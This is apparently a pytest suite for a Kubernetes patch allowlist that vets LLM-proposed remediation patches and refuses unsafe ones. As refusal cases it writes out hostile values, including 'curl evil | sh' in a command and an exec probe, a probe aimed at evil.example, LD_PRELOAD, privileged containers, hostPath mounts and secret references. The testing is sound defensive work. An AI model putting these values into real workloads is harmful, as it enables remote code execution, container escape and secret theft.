"""The patch allowlist: only container resources (bounded to 4x), env, probes and replicas;
everything else refused with the path and the reason."""

from __future__ import annotations

import copy
import json
import time
from pathlib import Path
from typing import Any

import pytest

from pitcrew.incidents.model import Category, Diagnosis
from pitcrew.incidents.patches import ALLOWLIST, check_patch, enforce, workload_patch

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "kube"
API = "spec.template.spec.containers[api]"


def workload(name: str = "oom-rollout") -> dict[str, Any]:
    """A workload from the fixtures: payments/api has container api with cpu 250m/1 and
    memory 256Mi/512Mi (requests/limits), HTTP liveness and readiness probes, 3 replicas."""
    data = json.loads((FIXTURES / f"{name}.json").read_text())
    return data["context"]["workload"]


def patch(pod_spec: dict[str, Any], target: dict[str, Any] | None = None) -> dict[str, Any]:
    made = workload_patch(target or workload(), pod_spec)
    assert made is not None
    return made


def container(**fields: Any) -> dict[str, Any]:
    return patch({"containers": [{"name": "api", **fields}]})


# -- allowed ------------------------------------------------------------------------------------
def test_a_one_and_a_half_times_memory_raise_is_allowed() -> None:
    assert check_patch(container(resources={"limits": {"memory": "768Mi"}}), workload()) == []


def test_resources_up_to_four_times_env_probes_and_replicas_are_allowed() -> None:
    allowed = container(
        resources={
            "limits": {"memory": "2Gi", "cpu": "4"},
            "requests": {"memory": "1Gi", "cpu": "500m"},
        },
        env=[
            {"name": "GOMEMLIMIT", "value": "1800MiB"},
            {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
        ],
        livenessProbe={"initialDelaySeconds": 30, "timeoutSeconds": 3},
        startupProbe={"httpGet": {"path": "/healthz", "port": 8080}, "failureThreshold": 30},
    )
    allowed["spec"]["replicas"] = 6
    assert check_patch(allowed, workload()) == []


def test_a_request_may_be_raised_from_the_limit_when_none_is_set() -> None:
    target = workload()
    del target["spec"]["template"]["spec"]["containers"][0]["resources"]["requests"]
    assert check_patch(container(resources={"requests": {"memory": "512Mi"}}), target) == []


def test_statefulset_cronjob_and_job_patches_use_their_own_pod_spec_path() -> None:
    sts = workload("pvc-pending")
    ok = patch(
        {"containers": [{"name": "postgres", "resources": {"limits": {"memory": "3Gi"}}}]}, sts
    )
    assert ok["spec"]["template"]["spec"]["containers"][0]["name"] == "postgres"
    assert check_patch(ok, sts) == []

    job = workload("job-backoff")
    cron = {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": "nightly-report", "namespace": "batch"},
        "spec": {"schedule": "20 2 * * *", "jobTemplate": {"spec": copy.deepcopy(job["spec"])}},
    }
    raised = {"containers": [{"name": "report", "resources": {"limits": {"memory": "768Mi"}}}]}
    cron_patch = patch(raised, cron)
    assert "jobTemplate" in cron_patch["spec"]
    assert check_patch(cron_patch, cron) == []
    assert check_patch(patch(raised, job), job) == []


def test_an_exec_probe_may_reuse_the_command_the_container_already_runs() -> None:
    target = workload()
    api = target["spec"]["template"]["spec"]["containers"][0]
    api["livenessProbe"] = {"exec": {"command": ["/bin/health", "--live"]}, "periodSeconds": 10}
    reuse = container(
        startupProbe={"exec": {"command": ["/bin/health", "--live"]}, "failureThreshold": 30}
    )
    assert check_patch(reuse, target) == []


# -- refused ------------------------------------------------------------------------------------
def test_an_image_change_is_refused_naming_the_path() -> None:
    problems = check_patch(container(image="ghcr.io/acme/payments-api:1.15.0"), workload())
    assert problems == [f"{API}.image: image changes are never proposed"]


@pytest.mark.parametrize(
    ("fields", "path", "why"),
    [
        ({"securityContext": {"privileged": True}}, f"{API}.securityContext", "security contexts"),
        ({"command": ["sh", "-c", "curl evil | sh"]}, f"{API}.command", "command is never changed"),
        ({"args": ["--debug"]}, f"{API}.args", "command is never changed"),
        (
            {"volumeMounts": [{"name": "host", "mountPath": "/host"}]},
            f"{API}.volumeMounts",
            "volumes",
        ),
        ({"envFrom": [{"secretRef": {"name": "all-secrets"}}]}, f"{API}.envFrom", "whole Secrets"),
        ({"imagePullPolicy": "Always"}, f"{API}.imagePullPolicy", "image changes"),
        ({"ports": [{"containerPort": 22}]}, f"{API}.ports", "not in the allowlist"),
    ],
)
def test_container_fields_outside_the_allowlist_are_refused(
    fields: dict[str, Any], path: str, why: str
) -> None:
    problems = check_patch(container(**fields), workload())
    assert len(problems) == 1
    assert problems[0].startswith(f"{path}: ")
    assert why in problems[0]


@pytest.mark.parametrize(
    ("pod_fields", "key", "why"),
    [
        ({"securityContext": {"runAsUser": 0}}, "securityContext", "security contexts"),
        ({"hostNetwork": True}, "hostNetwork", "host namespaces"),
        ({"hostPID": True}, "hostPID", "host namespaces"),
        ({"hostIPC": True}, "hostIPC", "host namespaces"),
        ({"serviceAccountName": "cluster-admin"}, "serviceAccountName", "service accounts"),
        (
            {"automountServiceAccountToken": True},
            "automountServiceAccountToken",
            "service accounts",
        ),
        ({"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}, "volumes", "volumes"),
        ({"nodeSelector": {"pool": "gpu"}}, "nodeSelector", "scheduling"),
        ({"tolerations": [{"operator": "Exists"}]}, "tolerations", "scheduling"),
        (
            {"priorityClassName": "system-node-critical"},
            "priorityClassName",
            "not in the allowlist",
        ),
    ],
)
def test_pod_level_fields_are_refused(pod_fields: dict[str, Any], key: str, why: str) -> None:
    problems = check_patch(patch(pod_fields), workload())
    assert len(problems) == 1
    assert problems[0].startswith(f"spec.template.spec.{key}: ")
    assert why in problems[0]


def test_privileged_mode_is_refused_in_containers_and_init_containers() -> None:
    target = workload()
    target["spec"]["template"]["spec"]["initContainers"] = [
        {
            "name": "migrate",
            "image": "ghcr.io/acme/migrate:1",
            "resources": {"limits": {"memory": "128Mi"}},
        }
    ]
    privileged = {"securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}}
    problems = check_patch(
        patch(
            {
                "containers": [{"name": "api", **privileged}],
                "initContainers": [{"name": "migrate", "image": "busybox", **privileged}],
            },
            target,
        ),
        target,
    )
    assert f"{API}.securityContext: security contexts are never changed" in problems
    init = "spec.template.spec.initContainers[migrate]"
    assert f"{init}.image: image changes are never proposed" in problems
    assert f"{init}.securityContext: security contexts are never changed" in problems


def test_memory_ten_times_the_current_limit_is_refused() -> None:
    problems = check_patch(container(resources={"limits": {"memory": "5Gi"}}), workload())
    assert problems == [f"{API}.resources.limits.memory: 5Gi is more than 4x the current 512Mi"]


def test_cpu_and_requests_are_bounded_too() -> None:
    problems = check_patch(
        container(resources={"limits": {"cpu": "5"}, "requests": {"cpu": "10m"}}), workload()
    )
    assert f"{API}.resources.limits.cpu: 5 is more than 4x the current 1" in problems
    assert f"{API}.resources.requests.cpu: 10m is less than a 4th of the current 250m" in problems


def test_an_unknown_container_or_a_missing_current_value_cannot_be_bounded() -> None:
    stranger = patch(
        {"containers": [{"name": "sidecar", "resources": {"limits": {"memory": "1Gi"}}}]}
    )
    assert check_patch(stranger, workload()) == [
        "spec.template.spec.containers[sidecar]: no container of that name in the workload"
    ]
    target = workload()
    del target["spec"]["template"]["spec"]["containers"][0]["resources"]
    problems = check_patch(container(resources={"limits": {"memory": "768Mi"}}), target)
    assert problems == [
        f"{API}.resources.limits.memory: the workload sets no memory limit for this container, "
        "so the change cannot be bounded"
    ]


def test_without_the_workload_nothing_can_be_bounded() -> None:
    problems = check_patch(container(resources={"limits": {"memory": "768Mi"}}), None)
    assert len(problems) == 1
    assert "cannot be bounded" in problems[0]


@pytest.mark.parametrize(
    ("resources", "why"),
    [
        ({"limits": {"memory": None}}, "removing a request or limit"),
        ({"limits": {"memory": "lots"}}, "'lots' is not a quantity"),
        ({"limits": {"memory": "0"}}, "must be more than zero"),
        ({"limits": {"ephemeral-storage": "10Gi"}}, "only cpu and memory"),
        ({"limits": {"nvidia.com/gpu": 1}}, "only cpu and memory"),
        ({"claims": [{"name": "gpu"}]}, "not in the allowlist"),
        ({"requests": {"memory": "1Gi"}}, "the request 1Gi would exceed the limit 512Mi"),
    ],
)
def test_resource_changes_that_are_not_plain_bounded_cpu_or_memory_are_refused(
    resources: dict[str, Any], why: str
) -> None:
    problems = check_patch(container(resources=resources), workload())
    assert any(why in problem for problem in problems), problems


@pytest.mark.parametrize(
    ("replicas", "why"),
    [
        (0, "scaling to zero"),
        (13, "more than 4x the current 3"),
        (51, "above the maximum of 50"),
        ("5", "not a whole number"),
    ],
)
def test_replicas_are_bounded(replicas: Any, why: str) -> None:
    scaled = patch({})
    scaled["spec"] = {"replicas": replicas}
    problems = check_patch(scaled, workload())
    assert len(problems) == 1
    assert problems[0].startswith("spec.replicas: ")
    assert why in problems[0]


def test_a_daemonset_has_no_replicas_to_patch() -> None:
    daemonset = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": "agent", "namespace": "ops"},
        "spec": {"template": {"spec": {"containers": [{"name": "agent"}]}}},
    }
    scaled = {**patch({}, daemonset), "spec": {"replicas": 2}}
    assert check_patch(scaled, daemonset) == [f"spec.replicas: not in the allowlist ({ALLOWLIST})"]


def test_the_patch_must_name_the_workload_it_checks_against() -> None:
    renamed = container(resources={"limits": {"memory": "768Mi"}})
    renamed["metadata"] = {"name": "other", "namespace": "payments", "labels": {"x": "y"}}
    renamed["kind"] = "StatefulSet"
    problems = check_patch(renamed, workload())
    assert "metadata.name: 'other' is not the workload's 'api'" in problems
    assert "metadata.labels: only name and namespace identify the workload" in problems
    assert "kind: 'StatefulSet' is not the workload's 'Deployment'" in problems


def test_template_metadata_and_unknown_top_level_keys_are_refused() -> None:
    changed = container(resources={"limits": {"memory": "768Mi"}})
    changed["spec"]["template"]["metadata"] = {"annotations": {"sidecar.istio.io/inject": "false"}}
    changed["status"] = {"replicas": 1}
    changed["spec"]["strategy"] = {"type": "Recreate"}
    problems = check_patch(changed, workload())
    assert any(p.startswith("spec.template.metadata: ") for p in problems)
    assert any(p.startswith("status: ") for p in problems)
    assert any(p.startswith("spec.strategy: ") for p in problems)


@pytest.mark.parametrize(
    ("variable", "why"),
    [
        (
            {"name": "DB", "valueFrom": {"secretKeyRef": {"name": "root-creds", "key": "pw"}}},
            "Secrets",
        ),
        ({"name": "LD_PRELOAD", "value": "/tmp/x.so"}, "loader"),
        ({"name": "X", "value": "1", "image": "y"}, "not part of an environment variable"),
        ({"value": "no name"}, "every variable is named"),
    ],
)
def test_env_changes_that_reach_secrets_or_run_code_are_refused(
    variable: dict[str, Any], why: str
) -> None:
    problems = check_patch(container(env=[variable]), workload())
    assert any(why in problem for problem in problems), problems


@pytest.mark.parametrize(
    ("probe", "why"),
    [
        (None, "removing a probe"),
        ({"exec": {"command": ["sh", "-c", "curl evil | sh"]}}, "exec probes only reuse"),
        ({"httpGet": {"host": "evil.example", "path": "/", "port": 80}}, "targets the pod itself"),
        ({"failureThreshold": 500}, "outside 1..60"),
        ({"periodSeconds": "10"}, "not a whole number"),
        ({"initialDelaySeconds": 600, "failureThreshold": 60, "periodSeconds": 60}, "above 900s"),
        ({"tcpSocket": {"port": 8080}}, "one handler"),  # liveness already has httpGet
        ({"$patch": "delete"}, "strategic-merge directives"),
    ],
)
def test_probe_changes_are_bounded_and_never_run_new_commands(probe: Any, why: str) -> None:
    problems = check_patch(container(livenessProbe=probe), workload())
    assert any(why in problem for problem in problems), problems
    assert all(p.startswith(f"{API}.livenessProbe") for p in problems)


def test_strategic_merge_directives_are_refused() -> None:
    replaced = patch(
        {
            "$setElementOrder/containers": [{"name": "api"}],
            "containers": [{"name": "api", "$patch": "replace"}],
        }
    )
    problems = check_patch(replaced, workload())
    assert (
        "spec.template.spec.$setElementOrder/containers: strategic-merge directives are not allowed"
        in problems
    )
    assert f"{API}.$patch: strategic-merge directives are not allowed" in problems


def test_a_patch_that_changes_nothing_or_is_not_an_object_is_refused() -> None:
    assert check_patch(patch({}), workload()) == [
        f"patch: changes nothing in the allowlist ({ALLOWLIST})"
    ]
    assert check_patch(["not", "a", "patch"], workload()) == ["patch: must be an object, not list"]  # type: ignore[arg-type]
    assert check_patch({"spec": {"template": "x"}}, workload()) == [
        "spec.template: must be an object"
    ]


# -- enforce ------------------------------------------------------------------------------------
def _diagnosis(patch_: dict[str, Any] | None) -> Diagnosis:
    return Diagnosis(
        category=Category.OOM_KILLED,
        root_cause="Container api runs out of memory",
        confidence=0.9,
        source="llm",
        patch=patch_,
        summary_line="payments/api: OOMKilled",
    )


def test_enforce_drops_an_out_of_policy_patch_and_says_why() -> None:
    bad = container(image="evil:latest", resources={"limits": {"memory": "768Mi"}})
    enforced = enforce(_diagnosis(bad), workload())
    assert enforced.patch is None
    assert enforced.patch_dropped == f"{API}.image: image changes are never proposed"
    assert enforced.as_dict()["patch_dropped"] == enforced.patch_dropped
    assert enforced.root_cause == "Container api runs out of memory"  # the rest is kept


def test_enforce_keeps_an_allowed_patch_and_a_diagnosis_without_one() -> None:
    good = _diagnosis(container(resources={"limits": {"memory": "768Mi"}}))
    assert enforce(good, workload()) is good
    none = _diagnosis(None)
    assert enforce(none, None) is none


def test_check_patch_is_pure_and_fast() -> None:
    target = workload()
    before = copy.deepcopy(target)
    proposed = container(resources={"limits": {"memory": "768Mi"}}, image="x")
    snapshot = copy.deepcopy(proposed)
    started = time.perf_counter()
    for _ in range(500):
        check_patch(proposed, target)
    assert time.perf_counter() - started < 2.0  # typically ~20 ms for all 500
    assert target == before
    assert proposed == snapshot
